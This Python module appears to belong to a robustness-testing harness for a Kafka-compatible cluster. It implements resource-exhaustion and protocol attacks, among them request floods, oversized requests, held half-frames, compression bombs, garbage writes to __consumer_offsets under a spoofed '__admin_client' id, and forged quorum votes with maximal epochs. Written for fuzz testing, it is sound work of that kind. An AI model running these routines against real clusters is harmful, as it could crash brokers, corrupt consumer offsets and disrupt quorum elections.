"""Attacks on time, memory and state: requests of a size that the client chooses, bombs, half frames, large epochs."""

from __future__ import annotations

import asyncio
import contextlib
import struct
import time
from collections.abc import Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor

from ...cluster.client.admin_client import AdminClient, NewTopic
from ...cluster.client.client_errors import ClientError
from ...cluster.client.cluster_client import ClusterClient
from ...wire.api_keys import ApiKey
from ...wire.codec import encode_request
from ...wire.compression import Compression
from ...wire.frames import write_uvarint
from ...wire.records import NewRecord, encode_batch
from .attack import AttackRun
from .attacker_connection import Endpoint, request_frame
from .damaged_batches import bomb, draw_batch, garbage_group_record, lying_record, many_records
from .drawn_values import INTERNAL_TOPIC
from .node_watch import Trouble
from .protocol_attacks import produce_frame, produce_frame_of

_LONG_TIMEOUT_S = 30.0
_FLOOD_CONNECTIONS, _FLOOD_REQUESTS, _FLOOD_S = 4, 16_000, 6.0
_NAMES = 400_000
_NEW_TOPICS, _DELETED_TOGETHER = 3_000, 250
_FETCHED_PARTITIONS = 100_000
_PRODUCED_PARTITIONS, _BATCHES = 400_000, 20_000
_TAGS, _UNKNOWN_TAG = 20_000_000, b"\x7f\0"
_HALF_FRAMES, _HALF_FRAME_BYTES, _HALF_FRAMES_HELD_S = 200, 2_200_000, 3.0
_BOMB_BYTES = 100_000_000
_BOMB_RECORDS = 700_000
_LOG_FLOOD_REQUESTS = 17_000
_LOG_LINES_MAX = 1_000
_LARGEST_EPOCH = 2**31 - 1


def _send_once(run: AttackRun, endpoint: Endpoint, frame: bytes) -> None:
    connection = run.connect(endpoint, _LONG_TIMEOUT_S)
    if connection is not None:
        with connection:
            run.exchange(connection, frame)


def api_versions_flood(run: AttackRun) -> None:
    """16,000 pipelined ApiVersions on each of four connections to one broker."""
    endpoint = run.rng.choice(run.target.brokers)
    data = request_frame(ApiKey.API_VERSIONS, 0, b"") * _FLOOD_REQUESTS

    def flood() -> int:
        connection = run.connect(endpoint)
        if connection is None:
            return 0
        with connection:
            return connection.pour(data, _FLOOD_S)

    with ThreadPoolExecutor(_FLOOD_CONNECTIONS) as threads:
        floods = [threads.submit(flood) for _ in range(_FLOOD_CONNECTIONS)]
        for done in floods:
            run.outcomes["answered" if done.result() else "closed"] += 1


def metadata_of_many_names(run: AttackRun) -> None:
    """Metadata of 400,000 empty names, in less than a megabyte."""
    body = struct.pack(">i", _NAMES) + bytes(2 * _NAMES) + b"\0"
    _send_once(run, run.rng.choice(run.target.brokers), request_frame(ApiKey.METADATA, 4, body))


def create_many_topics(run: AttackRun) -> None:
    """CreateTopics of 3,000 topics in one request; they are deleted afterwards."""
    names = [f"fuzz-many-{number}" for number in range(_NEW_TOPICS)]
    rows = [{"name": name, "num_partitions": 1, "replication_factor": 1} for name in names]
    fields = {"topics": [{**row, "assignments": [], "configs": []} for row in rows], "timeout": 20_000}
    body = encode_request(ApiKey.CREATE_TOPICS, 5, fields)
    broker = run.rng.choice(run.target.brokers)
    _send_once(run, broker, request_frame(ApiKey.CREATE_TOPICS, 5, body))
    for start in range(0, len(names), _DELETED_TOGETHER):
        fields = {"topic_names": names[start : start + _DELETED_TOGETHER], "timeout": 20_000}
        _send_once(run, broker, request_frame(ApiKey.DELETE_TOPICS, 5, encode_request(ApiKey.DELETE_TOPICS, 5, fields)))


def fetch_of_many_partitions(run: AttackRun) -> None:
    """Fetch of 100,000 partitions of a topic that has three."""
    row = {"fetch_offset": 0, "partition_max_bytes": 1}
    topic = {
        "topic": run.target.known.topics[0],
        "partitions": [{"partition": number, **row} for number in range(_FETCHED_PARTITIONS)],
    }
    body = encode_request(ApiKey.FETCH, 11, {"max_wait": 0, "max_bytes": 1, "topics": [topic]})
    _send_once(run, run.rng.choice(run.target.brokers), request_frame(ApiKey.FETCH, 11, body))


def produce_to_many_partitions(run: AttackRun) -> None:
    """Produce to 400,000 partitions without records, and 20,000 batches of a record for one partition."""
    endpoint, topic = run.rng.choice(run.target.brokers), run.target.known.topics[0]
    rows = [{"index": number, "records": None} for number in range(_PRODUCED_PARTITIONS)]
    _send_once(run, endpoint, produce_frame_of(topic, rows))
    batch = bytes(encode_batch([NewRecord(b"k", b"v", (), 1)]))
    _send_once(run, endpoint, produce_frame_of(topic, [{"index": 0, "records": batch}] * _BATCHES))


def many_tagged_fields(run: AttackRun) -> None:
    """Forty megabytes of unknown tagged fields, in the header of a request and in its body."""
    count = bytearray()
    write_uvarint(count, _TAGS)
    section = bytes(count) + _UNKNOWN_TAG * _TAGS
    header = struct.pack(">hhih", ApiKey.API_VERSIONS, 3, 1, -1)
    for endpoint in (run.rng.choice(run.target.brokers), run.rng.choice(run.target.controllers)):
        for frame in (header + section, header + b"\0\x02a\x02b" + section):
            _send_once(run, endpoint, struct.pack(">i", len(frame)) + frame)


def half_frames(run: AttackRun) -> None:
    """200 connections that each send 2.2 MB of a frame of 100 MB, and wait."""
    endpoint = run.rng.choice(run.target.brokers)
    piece = struct.pack(">i", 100_000_000) + struct.pack(">hhih", 0, 9, 1, -1) + bytes(_HALF_FRAME_BYTES)
    with contextlib.ExitStack() as stack:
        for _ in range(_HALF_FRAMES):
            connection = run.connect(endpoint, timeout_s=0.2)
            if connection is not None:
                sent = stack.enter_context(connection).send(piece)
                run.outcomes["sent" if sent else "not-taken"] += 1
        time.sleep(_HALF_FRAMES_HELD_S)


def decompression_bombs(run: AttackRun) -> None:
    """Small batches that inflate to 100 MB, or hold 700,000 records, to topics whose batches are looked into."""
    configs = {"bomb-compacted": {"cleanup.policy": "compact"}, "bomb-zstd": {"compression.type": "zstd"}}
    with _topics(run, configs):
        batches = [bomb(codec, _BOMB_BYTES) for codec in (Compression.ZSTD, Compression.GZIP, Compression.LZ4)]
        batches.append(many_records(Compression.GZIP, _BOMB_RECORDS))
        for topic in configs:
            for batch in batches:
                for endpoint in run.target.brokers:  # one of them leads the partition
                    _send_once(run, endpoint, produce_frame(topic, 0, batch))
                    run.look()


@contextlib.contextmanager
def _topics(run: AttackRun, configs: Mapping[str, Mapping[str, str]]) -> Iterator[None]:
    async def change(*, create: bool) -> None:
        async with ClusterClient(run.target.bootstrap) as client:
            for name, config in configs.items():
                with contextlib.suppress(ClientError, OSError):
                    if create:
                        await AdminClient(client).create_topic(NewTopic(name, 1, 3, config))
                    else:
                        await AdminClient(client).delete_topic(name, wait=False)

    asyncio.run(change(create=True))
    try:
        yield
    finally:
        asyncio.run(change(create=False))


def garbage_to_internal_topic(run: AttackRun) -> None:
    """Batches with garbage inside to every partition of `__consumer_offsets`.

    Apache Kafka takes such writes only from the client id `__admin_client`, which any client can give itself.
    """
    for partition in range(50):
        client_id = run.rng.choice((b"fuzz", b"__admin_client"))
        for endpoint in run.target.brokers:  # one of them leads the partition
            connection = run.connect(endpoint, timeout_s=2.0)
            if connection is None:
                continue
            with connection:
                for batch in (garbage_group_record(run.rng), lying_record(), draw_batch(run.rng)):
                    run.exchange(connection, produce_frame(INTERNAL_TOPIC, partition, batch, -1, client_id))
        run.look()


def vote_with_largest_epoch(run: AttackRun) -> None:
    """One Vote and one BeginQuorumEpoch with epoch 2^31-1 in the name of each voter, to each controller."""
    for endpoint in run.target.controllers:
        for candidate in (one.node_id for one in run.target.controllers if one.node_id != endpoint.node_id):
            row = {"partition_index": 0, "replica_epoch": _LARGEST_EPOCH, "replica_id": candidate}
            row |= {"last_offset_epoch": _LARGEST_EPOCH, "last_offset": 2**62}
            fields = {"topics": [{"topic_name": "__cluster_metadata", "partitions": [row]}], "voter_id": -1}
            _send_once(run, endpoint, request_frame(ApiKey.VOTE, 2, encode_request(ApiKey.VOTE, 2, fields)))
            row = {"partition_index": 0, "leader_id": candidate, "leader_epoch": _LARGEST_EPOCH}
            fields = {"topics": [{"topic_name": "__cluster_metadata", "partitions": [row]}]}
            body = encode_request(ApiKey.BEGIN_QUORUM_EPOCH, 0, fields)
            _send_once(run, endpoint, request_frame(ApiKey.BEGIN_QUORUM_EPOCH, 0, body))
            run.look()


def log_flood(run: AttackRun) -> None:
    """17,000 malformed requests, each with other numbers: the nodes must not log a line for each."""
    endpoint = run.rng.choice(run.target.brokers)
    for number in range(_LOG_FLOOD_REQUESTS):
        if run.is_over():
            break
        connection = run.connect(endpoint)
        if connection is not None:
            with connection:
                connection.send(request_frame(1000 + number % 20_000, number % 30_000, b"", number))
                run.outcomes["sent"] += 1
        if number % 500 == 0:
            run.look()
    time.sleep(0.5)
    run.look()
    lines = sum(run.watch.figures.log_lines.values())
    if lines > _LOG_LINES_MAX:
        run.trouble(Trouble("log-flood", "log-flood", f"{run.outcomes['sent']} requests made nodes log {lines} lines"))
